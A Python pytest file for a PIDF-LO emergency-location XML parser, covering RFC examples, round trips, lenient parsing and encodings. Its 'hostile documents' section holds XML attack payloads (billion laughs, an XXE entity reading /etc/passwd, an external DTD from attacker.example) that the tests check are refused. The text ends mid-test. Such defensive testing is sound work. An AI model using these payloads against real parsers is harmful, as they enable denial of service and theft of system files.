"""PIDF-LO: the RFC examples, round trips, the lenient mode, hostile documents."""

from __future__ import annotations

import contextlib
import datetime as dt
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from hypothesis import given
from hypothesis import strategies as st

from emergency_address import CivicAddress, EmergencyAddress, GeoPoint, Location
from emergency_address._cli import main
from emergency_address.exceptions import EmergencyAddressError, InvalidAddressError, PidfError
from emergency_address.formats import pidf
from emergency_address.formats.mapping import to_dict
from emergency_address.formats.pidf import (
    CIVIC_NS,
    EXT_NS,
    is_ncname,
    parse_pidf_lo,
    to_civic_xml,
    to_pidf_lo,
)
from emergency_address.strategies import emergency_addresses
from factories import SEATTLE, us_office

FIXTURES = Path(__file__).parent / "fixtures" / "pidf"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


# --- the RFC examples -----------------------------------------------------------------------------


def test_rfc4119_civic_example() -> None:
    parsed = parse_pidf_lo(fixture("rfc4119-civic-pidf-lo-tuple.xml"))
    assert parsed.civic == CivicAddress(
        country="US",
        state="New York",
        city="New York",
        street_name="Broadway",  # A6 -> RD
        house_number="123",
        additional_info="Suite 75",
        postal_code="10027-0401",
    )
    assert parsed.entity == "pres:geotarget@example.com"
    assert len(parsed.objects) == 1


def test_rfc5139_section5_example() -> None:
    civic = parse_pidf_lo(fixture("rfc5139-sec5-civic-address-example.xml")).civic
    assert civic == CivicAddress(
        country="AU",
        state="NSW",
        city="Wollongong",
        city_district="North Wollongong",
        street_name="Flinders",
        street_suffix="Street",
        road_branch="Campbell Street",
        landmark="Gilligan's Island",
        additional_info="Corner",
        name="Video Rental Store",
        postal_code="2500",
        room="Westerns and Classics",
        place_type="store",
        po_box="Private Box 15",
        language="en-AU",
    )


def test_rfc6848_milepost_and_pole_number() -> None:
    civic = parse_pidf_lo(fixture("rfc6848-sec5.6-fig7-milepost-pole-number.xml")).civic
    assert civic is not None
    assert (civic.street_name, civic.milepost, civic.pole_number) == ("I5", "248", "22-109-689")


def test_rfc6848_street_type_prefix_and_house_number_prefix() -> None:
    civic = parse_pidf_lo(
        fixture("rfc6848-sec5.6-fig8-street-type-prefix-house-number-prefix.xml")
    ).civic
    assert civic is not None
    assert (civic.street_type_prefix, civic.house_number_prefix, civic.house_number) == (
        "Boulevard",
        "A",
        "223",
    )


# --- writing ----------------------------------------------------------------------------------------


def test_civic_xml_follows_the_schema_order_and_namespaces() -> None:
    civic = CivicAddress(
        country="US",
        postal_code="98109",
        house_number="400",
        city="Seattle",
        street_name="Broad",
        milepost="3",
        language="en-US",
    )
    root = ET.fromstring(to_civic_xml(civic))
    assert root.tag == f"{{{CIVIC_NS}}}civicAddress"
    assert root.get("{http://www.w3.org/XML/1998/namespace}lang") == "en-US"
    names = [child.tag.split("}")[1] for child in root]
    assert names == ["country", "A3", "RD", "HNO", "PC", "MP"]
    assert root[-1].tag.startswith("{urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr:ext}")


def test_pidf_lo_structure() -> None:
    address = us_office().with_location(
        Location(id="sea-5", floor="5", geo=GeoPoint(latitude=47.6, longitude=-122.3))
    )
    document = to_pidf_lo(
        address,
        "sea-5",
        entity="pres:ana@contoso.example",
        timestamp=dt.datetime(2026, 11, 26, 12, tzinfo=dt.UTC),
    )
    root = ET.fromstring(document)
    pidf, gp = "urn:ietf:params:xml:ns:pidf", "urn:ietf:params:xml:ns:pidf:geopriv10"
    assert root.tag == f"{{{pidf}}}presence"
    assert root.get("entity") == "pres:ana@contoso.example"
    info = root.find(f"{{{pidf}}}tuple/{{{pidf}}}status/{{{gp}}}geopriv/{{{gp}}}location-info")
    assert info is not None
    assert [c.tag.split("}")[1] for c in info] == ["civicAddress", "Point"]
    assert root.find(f".//{{{gp}}}method").text == "Manual"  # type: ignore[union-attr]
    assert root.find(f".//{{{gp}}}usage-rules") is not None
    assert root.find(f"{{{pidf}}}tuple/{{{pidf}}}timestamp").text == "2026-11-26T12:00:00+00:00"  # type: ignore[union-attr]
    parsed = parse_pidf_lo(document)
    assert parsed.civic == address.dispatchable("sea-5")
    assert parsed.geo == GeoPoint(latitude=47.6, longitude=-122.3)  # the location's own point
    assert parsed.shapes == ("Point",)


def test_text_is_escaped() -> None:
    civic = CivicAddress(country="US", name='Smith & Sons <"Ltd">', street_name="O'Hara")
    assert parse_pidf_lo(to_civic_xml(civic)).civic == civic


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"entity": ""}, "entity"),
        ({"entity": "pres:a@b", "method": "\x00"}, "method"),
        ({"entity": "pres:a@b", "timestamp": dt.datetime(2026, 1, 1)}, "timezone-aware"),
        ({"entity": "pres:a@b", "extensions": [("urn:x", "1bad", "v")]}, "XML name"),
        ({"entity": "pres:a@b", "extensions": [(CIVIC_NS, "RD", "v")]}, "civic element"),
        ({"entity": "pres:a@b", "extensions": [("urn:x", "a\u00b2", "v")]}, "XML name"),
        ({"entity": "pres:a@b", "extensions": [("urn:x", "a", "\ufffe")]}, "U\\+FFFE"),
        ({"entity": "pres:a@b", "extensions": [("urn:x", "a", "\x07")]}, "U\\+0007"),
        (
            {
                "entity": "pres:a@b",
                "timestamp": dt.datetime(
                    2026, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=5, seconds=7))
                ),
            },
            "whole minutes",
        ),
        ({"entity": "pres:a@b", "extensions": ["nope"]}, "namespace, name, text"),
    ],
)
def test_bad_arguments_are_refused(kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(PidfError, match=message):
        to_pidf_lo(us_office(), **kwargs)


# --- round trips ------------------------------------------------------------------------------------

EXTENSIONS = st.lists(
    st.tuples(
        st.sampled_from(["urn:example:a", "http://example.com/ns"]),
        st.from_regex(r"[A-Za-z][A-Za-z0-9]{0,8}", fullmatch=True),
        st.text(st.characters(codec="utf-8", categories=("L", "N", "Zs")), max_size=20).map(
            lambda s: " ".join(s.split())
        ),
    ),
    max_size=3,
)


def _unambiguous(address: EmergencyAddress) -> bool:
    """An A6 with no RD reads back as the street (RFC 4119): see the test below."""
    return not (address.civic.street_group and not address.civic.street_name)


@given(emergency_addresses().filter(_unambiguous), EXTENSIONS, st.data())
def test_parse_gives_back_the_dispatchable_address(
    address: EmergencyAddress, extensions: list, data: Any
) -> None:
    location = data.draw(st.sampled_from(address.locations))
    document = to_pidf_lo(address, location.id, entity="pres:x@example.com", extensions=extensions)
    parsed = parse_pidf_lo(document)
    assert parsed.civic == address.dispatchable(location.id)
    assert parsed.extensions == tuple(extensions)
    assert parsed.geo == (location.geo or address.geo)
    assert parsed.method == "Manual"


@given(emergency_addresses().filter(_unambiguous))
def test_civic_xml_round_trips(address: EmergencyAddress) -> None:
    assert parse_pidf_lo(to_civic_xml(address.civic)).civic == address.civic


def test_a6_without_rd_reads_as_the_street_and_says_so() -> None:
    """RFC 4119 put the street in A6; RFC 5139 made A6 a group of streets and the street RD.
    Devices still send the old form, so an A6 with no RD is read as the street, with a warning:
    the one civic address that does not survive a round trip unchanged."""
    parsed = parse_pidf_lo(to_civic_xml(CivicAddress(country="US", street_group="Broadway")))
    assert parsed.civic == CivicAddress(country="US", street_name="Broadway")
    assert parsed.warnings == (
        "read A6 as the street name (RFC 4119), as there is no RD (RFC 5139)",
    )


# --- reading what the world sends -------------------------------------------------------------------

LEGACY = fixture("rfc4119-civic-pidf-lo-tuple.xml").replace(
    b'xmlns:cl="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"',
    b'xmlns:cl=" urn:ietf:params:xml:ns:pidf:geopriv10:civicLoc"',
)


def test_strict_refuses_the_rfc4119_examples_namespace() -> None:
    with pytest.raises(PidfError, match="civicLoc"):
        parse_pidf_lo(LEGACY)


def test_lenient_accepts_it_and_says_so() -> None:
    parsed = parse_pidf_lo(LEGACY, strict=False)
    assert parsed.civic is not None
    assert parsed.civic.street_name == "Broadway"
    assert any("legacy civic namespace" in w for w in parsed.warnings)


def test_uk_is_an_error_in_strict_mode_and_gb_in_lenient_mode() -> None:
    document = to_civic_xml(CivicAddress(country="GB", city="London")).replace(">GB<", ">UK<")
    with pytest.raises(InvalidAddressError) as info:
        parse_pidf_lo(document)
    assert info.value.errors[0].field == "country"
    lenient = parse_pidf_lo(document, strict=False)
    assert lenient.civic is not None
    assert lenient.civic.country == "GB"
    assert lenient.warnings == ("mapped the country code 'UK' to the ISO 3166-1 code 'GB'",)


def test_white_space_inside_values_collapses() -> None:
    document = f'<civicAddress xmlns="{CIVIC_NS}"><country> US </country><A3>\n  New\n   York </A3></civicAddress>'
    assert parse_pidf_lo(document).civic == CivicAddress(country="US", city="New York")


def test_unknown_foreign_elements_are_kept_not_refused() -> None:
    document = (
        f'<civicAddress xmlns="{CIVIC_NS}" xmlns:v="urn:vendor:x"><country>US</country>'
        "<v:Zone>North</v:Zone><v:Gate> 7 </v:Gate></civicAddress>"
    )
    assert parse_pidf_lo(document).extensions == (
        ("urn:vendor:x", "Zone", "North"),
        ("urn:vendor:x", "Gate", "7"),
    )


def test_other_geodetic_shapes_are_named() -> None:
    gml, gs = "http://www.opengis.net/gml", "http://www.opengis.net/pidflo/1.0"
    document = (
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10" '
        f'xmlns:gml="{gml}" xmlns:gs="{gs}" entity="pres:x@example.com"><tuple id="a"><status><gp:geopriv>'
        '<gp:location-info><gs:Circle srsName="urn:ogc:def:crs:EPSG::4326"><gml:pos>42.5 -73.2</gml:pos>'
        '<gs:radius uom="urn:ogc:def:uom:EPSG::9001">850.24</gs:radius></gs:Circle></gp:location-info>'
        "<gp:usage-rules/><gp:method>GPS</gp:method></gp:geopriv></status></tuple></presence>"
    )
    parsed = parse_pidf_lo(document)
    assert (parsed.civic, parsed.geo, parsed.shapes, parsed.method) == (
        None,
        None,
        ("Circle",),
        "GPS",
    )


def test_several_location_objects_the_first_wins_all_are_offered() -> None:
    first = to_pidf_lo(us_office(), entity="pres:x@example.com")
    second_civic = to_civic_xml(CivicAddress(country="US", city="Tacoma"))
    document = first.replace("</gp:geopriv>", "</gp:geopriv>", 1).replace(
        "</tuple>",
        f'</tuple><tuple id="b"><status><gp:geopriv><gp:location-info>{second_civic}'
        "</gp:location-info><gp:usage-rules/></gp:geopriv></status></tuple>",
    )
    parsed = parse_pidf_lo(document)
    assert parsed.civic == SEATTLE
    assert [o.civic.city for o in parsed.objects if o.civic] == ["Seattle", "Tacoma"]


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (b"", "not well-formed"),
        (b"<presence", "not well-formed"),
        (b"<html/>", "expected a PIDF"),
        (b'<presence xmlns="urn:ietf:params:xml:ns:pidf"/>', "no geopriv"),
        (
            f'<civicAddress xmlns="{CIVIC_NS}"><country>US</country>&x;</civicAddress>'.encode(),
            "undefined entity",
        ),
        (42, "str or bytes"),
    ],
)
def test_unreadable_documents_are_our_errors(document: Any, message: str) -> None:
    with pytest.raises(EmergencyAddressError, match=message):
        parse_pidf_lo(document)


# --- hostile documents ------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<civicAddress xmlns="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"><country>&lol9;</country></civicAddress>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE civicAddress [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<civicAddress xmlns="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"><country>US</country><A3>&xxe;</A3></civicAddress>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE civicAddress SYSTEM "http://attacker.example/evil.dtd">
<civicAddress xmlns="urn:ietf:params:xml:ns:pidf:geopriv10:civicAddr"><country>US</country></civicAddress>"""
TEN_MEGABYTES = (
    b'<civicAddress xmlns="'
    + CIVIC_NS.encode()
    + b'"><country>US</country><A3>'
    + b"x" * 10_000_000
    + b"</A3></civicAddress>"
)
DEEP = b"<a>" * 10_000 + b"</a>" * 10_000


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
        (TEN_MEGABYTES, "over the limit"),
        (TEN_MEGABYTES.decode(), "over the limit"),
        (DEEP, "nested deeper"),
    ],
    ids=[
        "billion-laughs",
        "external-entity",
        "external-dtd",
        "10MB-bytes",
        "10MB-str",
        "10000-deep",
    ],
)
def test_hostile_documents_are_refused(document: bytes | str, message: str) -> None:
    """What each refusal costs is measured by benchmarks/security.py, not asserted here."""
    with pytest.raises(PidfError, match=message):
        # A generous size limit, so that each document meets the defence it is aimed at.
        parse_pidf_lo(document, max_bytes=1_000_000 if document is DEEP else 65_536)


def test_the_limits_can_be_raised() -> None:
    big = to_civic_xml(CivicAddress(country="US", city="x")).encode() + b" " * 70_000
    with pytest.raises(PidfError):
        parse_pidf_lo(big)
    assert parse_pidf_lo(big, max_bytes=100_000).civic is not None


XML_PREFIXES = st.sampled_from(
    [
        "",
        '<?xml version="1.0" encoding="{}"?>',
        "<!DOCTYPE a>",
        f'<civicAddress xmlns="{CIVIC_NS}">',
        '<presence xmlns="urn:ietf:params:xml:ns:pidf" '
        'xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"><tuple id="t"><status><gp:geopriv>'
        "<gp:location-info>",
    ]
)


@given(
    st.binary(max_size=300) | st.text(max_size=300),
    XML_PREFIXES,
    st.sampled_from(["utf-8", "x-bogus", "utf-16", "rot_13", "latin-1", ""]),
    st.booleans(),
)
def test_junk_raises_only_our_errors(
    junk: bytes | str, prefix: str, encoding: str, strict: bool
) -> None:
    head = prefix.format(encoding) if "{}" in prefix else prefix
    document = head + junk if isinstance(junk, str) else head.encode() + junk
    with contextlib.suppress(EmergencyAddressError):
        parse_pidf_lo(document, strict=strict)


# --- what other systems write (issue: real-world interchange) ---------------------------------------

FIELD = Path(__file__).parent / "fixtures" / "field" / "pidf"
EXPECTED: dict[str, dict[str, Any]] = json.loads((FIELD / "expected.json").read_text("utf-8"))
PRESENCE = (
    '<presence xmlns="urn:ietf:params:xml:ns:pidf" xmlns:gp="urn:ietf:params:xml:ns:pidf:geopriv10"'
    ' xmlns:dm="urn:ietf:params:xml:ns:pidf:data-model" xmlns:gml="http://www.opengis.net/gml"'
    f' xmlns:ca="{CIVIC_NS}" entity="pres:x@example.com">{{}}</presence>'
)


def geopriv(location: str, method: str = "GPS") -> str:
    return (
        f"<gp:geopriv><gp:location-info>{location}</gp:location-info><gp:usage-rules/>"
        f"<gp:method>{method}</gp:method></gp:geopriv>"
    )


def civic(city: str) -> str:
    return f"<ca:civicAddress><ca:country>US</ca:country><ca:A3>{city}</ca:A3></ca:civicAddress>"


def point(latitude: float, longitude: float) -> str:
    return (
        '<gml:Point srsName="urn:ogc:def:crs:EPSG::4326">'
        f"<gml:pos>{latitude} {longitude}</gml:pos></gml:Point>"
    )


def test_every_field_document_is_listed_with_its_source_and_expectation() -> None:
    names = {path.name for path in FIELD.glob("*.xml")}
    assert names == set(EXPECTED)
    sources = (FIELD / "SOURCES.md").read_text("utf-8")
    assert all(f"| {name} |" in sources for name in names)


def _has_location(parsed: Any) -> bool:
    return bool(parsed.civic or parsed.geo or parsed.shapes or parsed.partial_civic)


@pytest.mark.parametrize("name", sorted(EXPECTED))
@pytest.mark.parametrize("strict", [True, False], ids=["strict", "lenient"])
def test_field_documents_parse_or_are_refused_for_their_stated_reason(
    name: str, strict: bool
) -> None:
    expected = EXPECTED[name]
    data = (FIELD / name).read_bytes()
    if expected["strict" if strict else "lenient"] == "refused":
        with pytest.raises(EmergencyAddressError, match=expected["reason"]):
            parse_pidf_lo(data, strict=strict)
        return
    parsed = parse_pidf_lo(data, strict=strict)
    # Nothing lost in silence: a location, or a warning saying what was dropped.
    assert _has_location(parsed) or parsed.warnings
    assert parsed.element == expected["element"]
    if "geo" in expected:
        assert parsed.geo == GeoPoint(latitude=expected["geo"][0], longitude=expected["geo"][1])
    assert parsed.shapes == tuple(expected.get("shapes", ("Point",) if "geo" in expected else ()))
    for field, value in expected.get("civic", {}).items():
        assert getattr(parsed.civic, field) == value
    assert parsed.partial_civic == tuple(map(tuple, expected.get("partial_civic", ())))
    assert len(parsed.objects) == expected.get("objects", 1)
    for fragment in expected.get("warnings", ()):
        assert any(fragment in warning for warning in parsed.warnings)


def test_a_civic_address_without_country_keeps_its_fields_and_the_point_beside_it() -> None:
    """P1: RFC 5139 makes every element optional; RFC 5491 §3.2 shows a point plus a civic
    address holding only FLR. A CivicAddress needs a country, and none is invented: the fields
    are kept in partial_civic and a warning says why civic is None."""
    document = PRESENCE.format(
        "<dm:device>"
        + geopriv(
            point(47.6, -122.3) + "<ca:civicAddress><ca:FLR> 2 </ca:FLR><ca:ROOM>5B</ca:ROOM>"
            "</ca:civicAddress>"
        )
        + "</dm:device>"
    )
    for strict in (True, False):
        parsed = parse_pidf_lo(document, strict=strict)
        assert parsed.civic is None
        assert parsed.geo == GeoPoint(latitude=47.6, longitude=-122.3)
        assert parsed.partial_civic == (("floor", "2"), ("room", "5B"))
        assert parsed.warnings == (
            "the civicAddress has no <country>, so it cannot be a CivicAddress: what it held "
            "(FLR, ROOM) is in partial_civic",
        )


def test_a_bare_civic_address_without_country_is_partial_too() -> None:
    parsed = parse_pidf_lo(f'<civicAddress xmlns="{CIVIC_NS}"><A1>x</A1></civicAddress>')
    assert (parsed.civic, parsed.partial_civic) == (None, (("state", "x"),))


@pytest.mark.parametrize(
    ("element", "value"),
    [("POD", "Calle"), ("PRD", "North"), ("HNO", "12345678901"), ("PC", "SW1A 1AA EXTRA")],
)
def test_values_over_teams_limits_are_valid_pidf_lo(element: str, value: str) -> None:
    """P2: RFC 5139 sets no lengths; Teams' limits belong to the Teams format."""
    document = f'<civicAddress xmlns="{CIVIC_NS}"><country>CO</country><{element}>{value}</{element}></civicAddress>'
    assert value in parse_pidf_lo(document).civic.fields().values()  # type: ignore[union-attr]


def test_a_point_inside_gml_location_is_read() -> None:
    """P3: RFC 4119 wraps the point in gml:location; it was dropped without a warning."""
    document = PRESENCE.format(
        f'<tuple id="t"><status>{geopriv("<gml:location>" + point(32.86726, -97.16054) + "</gml:location>")}'
        "</status></tuple>"
    )
    parsed = parse_pidf_lo(document)
    assert (parsed.geo, parsed.shapes, parsed.warnings) == (
        GeoPoint(latitude=32.86726, longitude=-97.16054),
        ("Point",),
        (),
    )


def test_rfc4119s_own_geodetic_form_is_read() -> None:
    """GML 3.0's namespace and gml:coordinates in degrees, minutes and seconds."""
    gml3 = "urn:opengis:specification:gml:schema-xsd:feature:v3.0"
    document = PRESENCE.replace(
        'xmlns:gml="http://www.opengis.net/gml"', f'xmlns:gml="{gml3}"'
    ).format(
        '<tuple id="t"><status>'
        + geopriv(
            '<gml:location><gml:Point gml:id="p" srsName="epsg:4326">'
            "<gml:coordinates>37:46:30N 122:25:10W</gml:coordinates></gml:Point></gml:location>"
        )
        + "</status></tuple>"
    )
    parsed = parse_pidf_lo(document)
    assert parsed.geo == GeoPoint(latitude=37.775, longitude=-(122 + 25 / 60 + 10 / 3600))


def test_an_element_not_read_in_a_location_info_is_named() -> None:
    document = PRESENCE.format(
        '<tuple id="t"><status>'
        + geopriv('<v:Beacon xmlns:v="urn:vendor">7</v:Beacon>' + civic("Seattle"))
        + "</status></tuple>"
    )
    parsed = parse_pidf_lo(document)
    assert parsed.civic is not None
    assert parsed.warnings == (
        "ignored <Beacon> in namespace 'urn:vendor' in a location-info: neither a civic "
        "address nor a geodetic shape",
    )


@pytest.mark.parametrize(
    ("order", "winner"),
    [
        (("person", "tuple", "device"), "Device"),
        (("person", "tuple"), "Tuple"),
        (("tuple", "device"), "Device"),
        (("person",), "Person"),
    ],
)
def test_rfc5491_rule_8_device_then_tuple_then_person(order: tuple[str, ...], winner: str) -> None:
    """P4: 'priority of interpretation is given to the first <device> element in the document
    containing a location. If no <device> element containing a location is present ..., then
    priority is given to the first <tuple> element containing a location. Locations contained
    in <person> tuples SHOULD only be used as a last resort.' (RFC 5491 §3, rule 8)"""
    wrap = {
        "person": '<dm:person id="p">{}</dm:person>',
        "tuple": '<tuple id="t"><status>{}</status></tuple>',
        "device": '<dm:device id="d">{}</dm:device>',
    }
    body = "".join(wrap[kind].format(geopriv(civic(kind.title()))) for kind in order)
    parsed = parse_pidf_lo(PRESENCE.format(body))
    assert parsed.civic is not None
    assert parsed.civic.city == winner
    assert parsed.element == winner.lower()
    assert [o.element for o in parsed.objects] == list(order)  # all of them, in document order


def test_an_empty_device_does_not_win_over_a_tuple_with_a_location() -> None:
    empty = '<dm:device id="d"><gp:geopriv><gp:location-info/></gp:geopriv></dm:device>'
    body = empty + '<tuple id="t"><status>' + geopriv(civic("Tacoma")) + "</status></tuple>"
    parsed = parse_pidf_lo(PRESENCE.format(body))
    assert parsed.civic is not None
    assert parsed.civic.city == "Tacoma"


HELD = "urn:ietf:params:xml:ns:geopriv:held"


def test_a_held_location_response_is_read_for_the_pidf_lo_it_carries() -> None:
    inner = PRESENCE.format(
        '<tuple id="t"><status>' + geopriv(civic("Seattle")) + "</status></tuple>"
    )
    document = (
        f'<locationResponse xmlns="{HELD}"><locationUriSet expires="2026-01-01T00:00:00Z">'
        "<locationURI>https://lis.example.com/loc/1</locationURI></locationUriSet>"
        f"{inner}</locationResponse>"
    )
    parsed = parse_pidf_lo(document)
    assert parsed.civic is not None
    assert parsed.civic.city == "Seattle"
    assert parsed.entity == "pres:x@example.com"
    assert parsed.location_uris == ("https://lis.example.com/loc/1",)


@pytest.mark.parametrize(
    ("document", "message"),
    [
        (
            f'<locationResponse xmlns="{HELD}"><locationUriSet expires="2026-01-01T00:00:00Z">'
            "<locationURI>https://lis.example.com/loc/1</locationURI></locationUriSet>"
            "</locationResponse>",
            "only location URIs .*https://lis.example.com/loc/1",
        ),
        (
            f'<error xmlns="{HELD}" code="locationUnknown"><message xml:lang="en">Unable to '
            "determine location</message></error>",
            "'locationUnknown': Unable to determine location",
        ),
    ],
)
def test_a_held_response_without_location_is_refused_with_its_reason(
    document: str, message: str
) -> None:
    with pytest.raises(PidfError, match=message):
        parse_pidf_lo(document)


def test_lenient_mode_drops_a_bad_value_and_names_it() -> None:
    document = f'<civicAddress xmlns="{CIVIC_NS}"><country>US</country><A3>Seattle</A3><RD>{"x" * 200}</RD></civicAddress>'
    with pytest.raises(InvalidAddressError, match="street_name"):
        parse_pidf_lo(document)
    parsed = parse_pidf_lo(document, strict=False)
    assert parsed.civic == CivicAddress(country="US", city="Seattle")
    assert parsed.warnings == ("dropped <RD>: at most 128 characters expected, got 200",)


def test_lenient_mode_keeps_the_rest_of_a_civic_address_with_an_unknown_country() -> None:
    document = (
        f'<civicAddress xmlns="{CIVIC_NS}"><country>XX</country><A3>Atlantis</A3></civicAddress>'
    )
    parsed = parse_pidf_lo(document, strict=False)
    assert (parsed.civic, parsed.partial_civic) == (None, (("city", "Atlantis"),))
    assert parsed.warnings[0].startswith("dropped <country>")


def test_an_unreadable_point_is_refused_strictly_and_dropped_with_a_warning_leniently() -> None:
    document = PRESENCE.format(
        '<tuple id="t"><status>' + geopriv(point(95, 10)) + "</status></tuple>"
    )
    with pytest.raises(PidfError, match="gml:Point"):
        parse_pidf_lo(document)
    parsed = parse_pidf_lo(document, strict=False)
    assert parsed.geo is None
    assert parsed.warnings[0].startswith("dropped a point")


@pytest.mark.parametrize("pos", ["1_0 20", "nan 20", "\u0661\u0660 20", "10"])
def test_only_plain_decimal_coordinates_are_read(pos: str) -> None:
    document = PRESENCE.format(
        '<tuple id="t"><status>'
        + geopriv(f'<gml:Point srsName="x"><gml:pos>{pos}</gml:pos></gml:Point>')
        + "</status></tuple>"
    )
    with pytest.raises(PidfError, match="gml:Point"):
        parse_pidf_lo(document)


# --- extensions: what is read can be written back (D3, D4) -----------------------------------------


def test_every_extension_the_parser_returns_can_be_written_back() -> None:
    """Unknown names in the civic namespaces, elements in no namespace and non-ASCII names."""
    document = (
        f'<ca:civicAddress xmlns:ca="{CIVIC_NS}" xmlns:cae="{EXT_NS}" xmlns:v="urn:v">'
        "<ca:country>US</ca:country><ca:ZZZ>a</ca:ZZZ><cae:NEW>b</cae:NEW><plain>c</plain>"
        "<v:é>d</v:é></ca:civicAddress>"
    )
    parsed = parse_pidf_lo(document)
    assert parsed.extensions == (
        (CIVIC_NS, "ZZZ", "a"),
        (EXT_NS, "NEW", "b"),
        ("", "plain", "c"),
        ("urn:v", "é", "d"),
    )
    assert parsed.civic is not None
    again = parse_pidf_lo(to_civic_xml(parsed.civic, extensions=parsed.extensions))
    assert (again.civic, again.extensions) == (parsed.civic, parsed.extensions)
    address = us_office()
    written = to_pidf_lo(address, entity="pres:x@example.com", extensions=parsed.extensions)
    assert parse_pidf_lo(written).extensions == parsed.extensions


@pytest.mark.parametrize(
    ("name", "valid"),
    [
        ("Zone", True),
        ("é", True),
        ("a.b-c_d", True),
        ("a²", False),
        ("1a", False),
        ("a:b", False),
        ("", False),
    ],
)
def test_extension_names_are_xml_names(name: str, valid: bool) -> None:
    assert is_ncname(name) is valid


# --- round trip over the widest strategies (issue: reliability, Deliver 3) ----------------------------

NAME_CHARS = st.characters(
    codec="utf-8", categories=("L", "Nd", "Mn", "Pc", "Pd", "No", "Sm"), exclude_characters=":"
)
WIDE_EXTENSIONS = st.lists(
    st.tuples(
        st.sampled_from(["urn:example:a", CIVIC_NS, EXT_NS, "", "http://example.com/ns?q=1&r=<2>"]),
        st.text(NAME_CHARS, min_size=1, max_size=8),
        st.text(max_size=20),
    ),
    max_size=3,
)


@given(emergency_addresses().filter(_unambiguous), WIDE_EXTENSIONS, st.data())
def test_what_is_accepted_is_written_and_read_back_equal_or_refused_with_a_reason(
    address: EmergencyAddress, extensions: list[tuple[str, str, str]], data: Any
) -> None:
    location = data.draw(st.sampled_from(address.locations))
    try:
        document = to_pidf_lo(
            address, location.id, entity="pres:x@example.com", extensions=extensions
        )
    except PidfError as error:
        refused = str(error)
        assert refused.startswith("extension ")
        return
    parsed = parse_pidf_lo(document)
    assert parsed.civic == address.dispatchable(location.id)
    assert parsed.geo == (location.geo or address.geo)
    assert parsed.extensions == tuple((n, k, " ".join(t.split())) for n, k, t in extensions)
    assert parsed.warnings == ()


# --- hostile and mis-encoded input (issue: reliability, S2, S3, encodings) ----------------------------


@pytest.mark.parametrize(
    "document",
    [
        BILLION_LAUGHS,
        b"<!-- a comment --><?pi x?>\n<!DOCTYPE a><a/>",
        "\ufeff<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16"),
    ],
    ids=["billion-laughs", "after-comment-and-pi", "bom-str", "utf-16"],
)
def test_a_dtd_is_refused_before_the_parser_reads_the_document(document: bytes | str) -> None:
    parser_called = AssertionError("the XML parser was called")
    with (
        mock.patch.object(pidf.ET, "XMLParser", side_effect=parser_called),
        pytest.raises(PidfError, match="DTD"),
    ):
        parse_pidf_lo(document)


@pytest.mark.parametrize("encoding", ["x-bogus", "rot_13", "base64", "zlib", "eTF-8", "hex"])
def test_an_unknown_or_unsupported_encoding_is_our_error(encoding: str) -> None:
    with pytest.raises(PidfError, match="encoding"):
        parse_pidf_lo(f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode())


@pytest.mark.parametrize(
    ("encoding", "bom"),
    [
        ("utf-16", ""),
        ("utf-16-le", ""),
        ("utf-16-be", ""),
        ("utf-32", ""),
        ("utf-8", "\ufeff"),
        ("latin-1", ""),
        ("cp1252", ""),
    ],
)
def test_documents_in_the_supported_encodings_are_read(encoding: str, bom: str) -> None:
    declared = {"utf-16-le": "UTF-16", "utf-16-be": "UTF-16"}.get(encoding, encoding)
    text = f'{bom}<?xml version="1.0" encoding="{declared}"?>' + to_civic_xml(
        CivicAddress(country="DE", city="Köln")
    )
    assert parse_pidf_lo(text.encode(encoding)).civic == CivicAddress(country="DE", city="Köln")


def test_bytes_that_are_not_their_encoding_are_our_error() -> None:
    with pytest.raises(PidfError, match="not valid utf-8"):
        parse_pidf_lo(b"<a>\xff</a>")


def test_nested_geoprivs_are_walked_once_without_duplicates() -> None:
    """S3: each element is visited once; each location-info gives one location object."""
    depth = 400
    info = "<gp:location-info>" + civic("X") + "</gp:location-info>"
    document = PRESENCE.format(
        '<tuple id="t"><status>'
        + "<gp:geopriv>" * depth
        + info
        + "</gp:geopriv>" * depth
        + "</status></tuple>"
    )
    parsed = parse_pidf_lo(document, max_depth=depth + 10, max_bytes=1_000_000)
    assert len(parsed.objects) == 1
    nested = PRESENCE.format(
        '<tuple id="t"><status>'
        + ("<gp:geopriv>" + info) * depth
        + "</gp:geopriv>" * depth
        + "</status></tuple>"
    )
    assert len(parse_pidf_lo(nested, max_depth=depth + 10, max_bytes=1_000_000).objects) == depth


@pytest.mark.parametrize(
    ("name", "value"),
    [("max_bytes", "1"), ("max_depth", 2.5), ("max_bytes", True), ("strict", "no")],
)
def test_limits_of_the_wrong_type_are_a_type_error_naming_them(name: str, value: Any) -> None:
    with pytest.raises(TypeError, match=name):
